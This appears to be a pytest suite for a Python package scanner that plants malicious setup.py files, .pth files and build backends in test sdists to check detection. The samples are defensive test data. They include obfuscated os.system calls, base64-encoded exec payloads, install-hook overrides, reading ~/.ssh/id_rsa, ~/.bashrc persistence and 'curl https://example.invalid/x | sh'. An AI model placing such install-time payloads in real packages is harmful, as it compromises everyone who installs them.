"""Sdists built by setuptools (benign), then given malicious setup.py files: nothing is ever run."""

from __future__ import annotations

import base64
import textwrap
import zipfile
from pathlib import Path

import pytest
from package_builders import build_sdist, by_rule, make_project, rewrite_sdist, rules_of, scan

from mlsec_dagster import Severity, scan_path
from mlsec_dagster.engine.findings import Finding

TAR = "mytool-1.0.tar"
SETUP = "mytool-1.0/setup.py"


@pytest.fixture(scope="module")
def clean_sdist(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("clean")
    return build_sdist(make_project(root / "proj"), root / "dist")


def _evil(clean: Path, tmp_path: Path, setup_py: str, files: dict[str, bytes] | None = None) -> Path:
    out = tmp_path / "dist"
    out.mkdir(exist_ok=True)
    extra = {"setup.py": textwrap.dedent(setup_py).encode(), **(files or {})}
    return rewrite_sdist(clean, out / "mytool-1.0.tar.gz", extra)


def _at(findings: list[Finding], line: int, member: str = SETUP) -> list[Finding]:
    return [f for f in findings if f.location.member == (TAR, member) and f.location.line == line]


def _high(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.HIGH]


def test_plain_setup_passes(clean_sdist: Path) -> None:
    result = scan(clean_sdist)
    assert not [f for f in result.findings if f.rule_id.startswith("MLS-PKG")], result.findings
    assert any(a.format == "sdist" and a.member == (TAR,) for a in result.artifacts)


def test_obfuscated_os_system_is_high_at_its_line(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    setup = f"""\
        import os as o
        from setuptools import setup
        name = "sys" + "tem"
        runner = getattr(o, name)
        runner("touch {canary}")
        setup(name="mytool", version="1.0")
    """
    hits = by_rule(scan(_evil(clean_sdist, tmp_path, setup)), "MLS-PKG-011")
    # line 4 takes os.system as a value, line 5 calls it
    assert [(f.severity, f.location.line) for f in hits] == [(Severity.HIGH, 4), (Severity.HIGH, 5)]
    assert hits[1].location.member == (TAR, SETUP)
    assert "os.system" in hits[1].message and f"touch {canary}" in hits[1].evidence


@pytest.mark.parametrize(
    "call",
    [
        "from os import system as s; s('touch {c}')",
        "__builtins__.__dict__['ex' + 'ec'](\"import os; os.system('touch {c}')\")",
        "import builtins; getattr(builtins, 'ev' 'al')(\"__import__('os').system('touch {c}')\")",
        "import importlib; importlib.import_module('o' + 's').popen('touch {c}')",
        "import sys, os; sys.modules['os'].system('touch {c}')",
        "from subprocess import *; Popen(['sh', '-c', 'touch {c}'])",
    ],
)
def test_obfuscation_does_not_hide_calls(clean_sdist: Path, tmp_path: Path, canary: Path, call: str) -> None:
    setup = "from setuptools import setup\n" + call.format(c=canary) + "\nsetup(name='mytool')\n"
    findings = scan(_evil(clean_sdist, tmp_path, setup)).findings
    assert _high(_at(findings, 2)), [(f.rule_id, f.location.line, f.message) for f in findings]


def test_base64_exec_payload_is_decoded_and_analysed(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    payload = base64.b64encode(f"import os; os.system('touch {canary}')".encode()).decode()
    setup = f"""\
        import base64
        from setuptools import setup
        exec(base64.b64decode("{payload}"))
        setup(name="mytool", version="1.0")
    """
    findings = scan(_evil(clean_sdist, tmp_path, setup)).findings
    dynamic = by_rule(_at(findings, 3), "MLS-PKG-012")
    assert dynamic and dynamic[0].severity == Severity.HIGH
    assert f"touch {canary}" in dynamic[0].evidence and "base64.b64decode" in dynamic[0].message
    assert by_rule(_at(findings, 3), "MLS-PKG-011")  # the os.system inside the payload


def test_cmdclass_install_override_with_payload_is_high(
    clean_sdist: Path, tmp_path: Path, canary: Path
) -> None:
    setup = f"""\
        import subprocess
        from setuptools import setup
        from setuptools.command.install import install


        def _post():
            subprocess.call("touch {canary}", shell=True)


        class PostInstall(install):
            def run(self):
                install.run(self)
                _post()


        setup(name="mytool", version="1.0", cmdclass={{"install": PostInstall}})
    """
    findings = scan(_evil(clean_sdist, tmp_path, setup)).findings
    override = by_rule(findings, "MLS-PKG-013")
    assert [(f.severity, f.location.line) for f in override] == [(Severity.HIGH, 10)]
    assert "subprocess.call" in override[0].message
    assert [(f.severity, f.location.line) for f in by_rule(findings, "MLS-PKG-011")] == [(Severity.HIGH, 7)]


def test_harmless_cmdclass_override_is_medium_only(clean_sdist: Path, tmp_path: Path) -> None:
    setup = """\
        from setuptools import setup
        from setuptools.command.develop import develop


        class Develop(develop):
            def run(self):
                print("developing")
                develop.run(self)


        setup(name="mytool", version="1.0", cmdclass={"develop": Develop})
    """
    findings = scan(_evil(clean_sdist, tmp_path, setup)).findings
    assert [
        (f.rule_id, f.severity, f.location.line) for f in findings if f.rule_id.startswith("MLS-PKG")
    ] == [("MLS-PKG-013", Severity.MEDIUM, 5)]


def test_network_and_home_writes_are_high(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    setup = f"""\
        import os
        import urllib.request
        from setuptools import setup
        data = urllib.request.urlopen("https://example.invalid/stage2").read()
        with open(os.path.expanduser("~/.bashrc"), "a") as rc:
            rc.write("touch {canary}")
        setup(name="mytool", version="1.0")
    """
    findings = scan(_evil(clean_sdist, tmp_path, setup)).findings
    assert sorted((f.location.line, f.severity) for f in by_rule(findings, "MLS-PKG-010")) == [
        (2, Severity.MEDIUM),  # the import alone
        (4, Severity.HIGH),
    ]
    assert [(f.severity, f.location.line) for f in by_rule(findings, "MLS-PKG-014")] == [(Severity.HIGH, 5)]


def test_reading_credentials_is_high(clean_sdist: Path, tmp_path: Path) -> None:
    setup = """\
        from pathlib import Path
        from setuptools import setup
        key = (Path.home() / ".ssh" / "id_rsa").read_text()
        setup(name="mytool", version="1.0")
    """
    hits = by_rule(scan(_evil(clean_sdist, tmp_path, setup)).findings, "MLS-PKG-015")
    assert [(f.severity, f.location.line) for f in hits] == [(Severity.HIGH, 3)]


def test_common_benign_idioms_raise_nothing_high(clean_sdist: Path, tmp_path: Path) -> None:
    """Version read by exec of an in-package file, git describe, README as long_description."""
    setup = """\
        import os
        import subprocess
        from setuptools import setup
        here = os.path.abspath(os.path.dirname(__file__))
        about = {}
        with open(os.path.join(here, "mytool", "version.py")) as f:
            exec(f.read(), about)
        try:
            rev = subprocess.check_output(["git", "describe", "--tags"]).decode()
        except Exception:
            rev = ""
        with open(os.path.join(here, "README.md")) as fh:
            long_description = fh.read()
        setup(name="mytool", version=about["__version__"], long_description=long_description)
    """
    sdist = _evil(clean_sdist, tmp_path, setup, {"mytool/version.py": b"__version__ = '1.0'\n"})
    findings = [f for f in scan(sdist).findings if f.rule_id.startswith("MLS-PKG")]
    assert [(f.rule_id, f.severity, f.location.line) for f in findings] == [
        ("MLS-PKG-011", Severity.MEDIUM, 9)
    ]


def test_exec_of_in_package_file_follows_that_file(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    setup = """\
        from setuptools import setup
        exec(open("mytool/version.py").read())
        setup(name="mytool", version=__version__)
    """
    version = f"import os\n__version__ = '1.0'\nos.system('touch {canary}')\n".encode()
    findings = scan(_evil(clean_sdist, tmp_path, setup, {"mytool/version.py": version})).findings
    hits = by_rule(findings, "MLS-PKG-011")
    assert [(f.severity, f.location.member, f.location.line) for f in hits] == [
        (Severity.HIGH, (TAR, "mytool-1.0/mytool/version.py"), 3)
    ]


def test_helper_module_imported_by_setup_is_analysed(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    helper = f"import os\n\ndef build():\n    os.popen('touch {canary}')\n".encode()
    setup = (
        "import _build_helpers\nfrom setuptools import setup\n_build_helpers.build()\nsetup(name='mytool')\n"
    )
    findings = scan(_evil(clean_sdist, tmp_path, setup, {"_build_helpers.py": helper})).findings
    hits = by_rule(findings, "MLS-PKG-011")
    assert [(f.location.member, f.location.line) for f in hits] == [
        ((TAR, "mytool-1.0/_build_helpers.py"), 4)
    ]


def test_pth_in_sdist_is_high(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    sdist = _evil(
        clean_sdist, tmp_path, "from setuptools import setup\nsetup(name='mytool')\n",
        {"mytool/evil.pth": f"import os; os.system('touch {canary}')\n".encode()},
    )  # fmt: skip
    hits = by_rule(scan(sdist).findings, "MLS-PKG-001")
    assert [(f.severity, f.location.member, f.location.line) for f in hits] == [
        (Severity.HIGH, (TAR, "mytool-1.0/mytool/evil.pth"), 1)
    ]


def test_unparseable_setup_is_reported(clean_sdist: Path, tmp_path: Path) -> None:
    setup = "from setuptools import setup\nprint 'python 2'\n"
    hits = by_rule(scan(_evil(clean_sdist, tmp_path, setup)).findings, "MLS-PKG-016")
    assert [(f.severity, f.location.member, f.location.line) for f in hits] == [
        (Severity.MEDIUM, (TAR, SETUP), 2)
    ]


def test_in_tree_backend_is_reported_and_analysed(clean_sdist: Path, tmp_path: Path, canary: Path) -> None:
    pyproject = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_custom"]\n'
    backend = f"import os\nos.system('touch {canary}')\nfrom setuptools.build_meta import *\n".encode()
    sdist = _evil(
        clean_sdist, tmp_path, "from setuptools import setup\nsetup(name='mytool')\n",
        {"pyproject.toml": pyproject, "_custom/backend.py": backend},
    )  # fmt: skip
    findings = scan(sdist).findings
    assert [(f.severity, f.location.line) for f in by_rule(findings, "MLS-PKG-017")] == [(Severity.MEDIUM, 4)]
    hits = by_rule(findings, "MLS-PKG-011")
    assert [(f.location.member, f.location.line) for f in hits] == [
        ((TAR, "mytool-1.0/_custom/backend.py"), 2)
    ]


def test_zip_sdist_is_checked(tmp_path: Path, canary: Path) -> None:
    project = make_project(tmp_path / "proj")
    clean = build_sdist(project, tmp_path / "dist", fmt="zip")
    assert not [f for f in scan(clean).findings if f.rule_id.startswith("MLS-PKG")]
    evil = tmp_path / "evil" / "mytool-1.0.zip"
    evil.parent.mkdir()
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(evil, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename == SETUP:
                data = f"import os\nos.system('touch {canary}')\n".encode()
            zout.writestr(item, data)
    result = scan(evil)
    hits = by_rule(result, "MLS-PKG-011")
    assert [(f.location.member, f.location.line) for f in hits] == [((SETUP,), 2)]
    assert any(a.format == "sdist-zip" for a in result.artifacts)


def test_model_tarball_with_one_folder_is_not_an_sdist(tmp_path: Path) -> None:
    import tarfile

    model = tmp_path / "model.tar"
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "config.json").write_text("{}")
    with tarfile.open(model, "w") as tf:
        tf.add(tmp_path / "m", arcname="model")
    result = scan(model)
    assert not any(a.format == "sdist" for a in result.artifacts)
    assert "MLS-PKG-016" not in rules_of(result)


def test_maintainer_only_publish_block_is_medium(clean_sdist: Path, tmp_path: Path) -> None:
    setup = """\
        import os
        import sys
        from setuptools import setup
        if sys.argv[-1] == "publish":
            os.system("twine upload dist/*")
        if sys.argv[0] == "-c":
            os.system("id")
        setup(name="mytool", version="1.0")
    """
    hits = by_rule(scan(_evil(clean_sdist, tmp_path, setup)).findings, "MLS-PKG-011")
    assert sorted((f.location.line, f.severity) for f in hits) == [(5, Severity.MEDIUM), (7, Severity.HIGH)]
    assert "publish" in next(f.message for f in hits if f.location.line == 5)


def test_cmake_build_ext_and_computed_git_runner_are_not_high(clean_sdist: Path, tmp_path: Path) -> None:
    """The shapes of CMake extension builds and versioneer's git runner: reviewed (MEDIUM), not blocked."""
    setup = """\
        import subprocess
        from setuptools import setup
        from setuptools.command.build_ext import build_ext


        def run_command(commands, args):
            for command in commands:
                return subprocess.Popen([command] + args, stdout=subprocess.PIPE).communicate()[0]


        class CMakeBuild(build_ext):
            def run(self):
                subprocess.check_call(["cmake", "."] + ["-DCMAKE_BUILD_TYPE=Release"])
                run_command(["git"], ["describe", "--tags"])


        setup(name="mytool", version="1.0", cmdclass={"build_ext": CMakeBuild})
    """
    findings = [
        f for f in scan(_evil(clean_sdist, tmp_path, setup)).findings if f.rule_id.startswith("MLS-PKG")
    ]
    assert not _high(findings), [(f.rule_id, f.location.line, f.message) for f in findings]
    assert sorted(f.location.line for f in by_rule(findings, "MLS-PKG-011")) == [8, 13]


def test_tarball_with_setup_py_at_its_root_is_checked(tmp_path: Path, canary: Path) -> None:
    """pip builds a local archive without a top folder too, so its setup.py is install-time code."""
    import io
    import tarfile

    archive = tmp_path / "src.tar.gz"
    setup = f"import os\nos.system('curl https://example.invalid/x | sh; touch {canary}')\n".encode()
    with tarfile.open(archive, "w:gz") as tf:
        for name, data in (("setup.py", setup), ("mytool/__init__.py", b"")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    hits = by_rule(scan(archive), "MLS-PKG-011")
    assert [(f.severity, f.location.member[-1], f.location.line) for f in hits] == [
        (Severity.HIGH, "setup.py", 2)
    ]


def test_setup_py_on_disk_is_analysed_and_still_read_as_a_manifest(tmp_path: Path, canary: Path) -> None:
    lib = tmp_path / "third_party" / "vendored"
    lib.mkdir(parents=True)
    (lib / "setup.py").write_text(
        "from setuptools import setup\nimport helpers\nsetup(name='v', install_requires=['requests>=2'])\n"
    )
    (lib / "helpers.py").write_text(
        f"import subprocess\nsubprocess.call('curl x | sh; touch {canary}', shell=True)\n"
    )
    (tmp_path / "setup.py").write_text("from setuptools import setup\nsetup(name='app', install_requires=[\n")
    result = scan_path(tmp_path, root=tmp_path)
    hits = by_rule(result, "MLS-PKG-011")
    assert [(f.path, f.location.member, f.location.line, f.severity) for f in hits] == [
        ("third_party/vendored/helpers.py", (), 2, Severity.HIGH)
    ]
    assert by_rule(result, "MLS-DEP-030") and not by_rule(result, "MLS-PKG-016")  # the broken root setup.py
    assert {a.path: a.format for a in result.artifacts}["third_party/vendored/setup.py"] == "setup-py"


def test_version_loaded_with_importlib_from_the_package_is_followed(
    clean_sdist: Path, tmp_path: Path, canary: Path
) -> None:
    setup = """\
        import importlib.util
        import os
        from setuptools import setup
        here = os.path.dirname(__file__)
        spec = importlib.util.spec_from_file_location("v", os.path.join(here, "mytool", "version.py"))
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        setup(name="mytool", version=module.__version__)
    """
    benign = _evil(clean_sdist, tmp_path, setup, {"mytool/version.py": b"__version__ = '1.0'\n"})
    assert not [f for f in scan(benign).findings if f.rule_id.startswith("MLS-PKG")]
    payload = f"import os\nos.system('touch {canary}')\n__version__ = '1.0'\n".encode()
    (tmp_path / "dist" / "mytool-1.0.tar.gz").unlink()
    evil = _evil(clean_sdist, tmp_path, setup, {"mytool/version.py": payload})
    hits = by_rule(scan(evil), "MLS-PKG-011")
    assert [(f.location.member, f.location.line) for f in hits] == [
        ((TAR, "mytool-1.0/mytool/version.py"), 2)
    ]
